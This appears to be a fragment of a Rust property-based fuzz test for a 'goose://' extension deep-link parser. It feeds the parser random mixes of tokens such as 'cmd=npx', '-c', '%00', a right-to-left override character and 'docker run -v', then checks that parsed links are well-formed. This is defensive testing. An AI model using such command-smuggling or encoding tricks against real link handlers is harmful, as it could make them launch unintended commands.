    gosling_testing::property_testing::check(|u| {
        let parts = [
            "goose://",
            "extension?",
            "recipe?config=",
            "name=x",
            "&",
            "cmd=npx",
            "&arg=",
            "-c",
            "%",
            "%00",
            "url=https://",
            "@",
            "[",
            ":",
            "header=",
            "=",
            "env=",
            "docker",
            "run",
            "-v",
            "\u{202e}",
            "é",
        ];
        let mut text = String::new();
        for _ in 0..u.int_in_range(0..=12)? {
            if u.ratio(5, 6)? {
                text.push_str(u.choose(&parts)?)
            } else {
                text.push_str(&u.arbitrary::<String>()?)
            }
        }
        assert_eq!(outcome(&text), outcome(&text));
        if let Ok(Link::Extension(link)) = Link::parse(&text) {
            let is_set = match &link.transport {
                LinkTransport::Stdio { cmd, .. } => !cmd.is_empty(),
                LinkTransport::StreamableHttp { url, .. } => !url.is_empty(),
            };
            assert!(is_set && !link.name.is_empty());
        }
        Ok(())
    });
    let failed = Link::parse("x").unwrap_err();
    assert_eq!(failed.class, ErrorClass::ParseFailed);
}
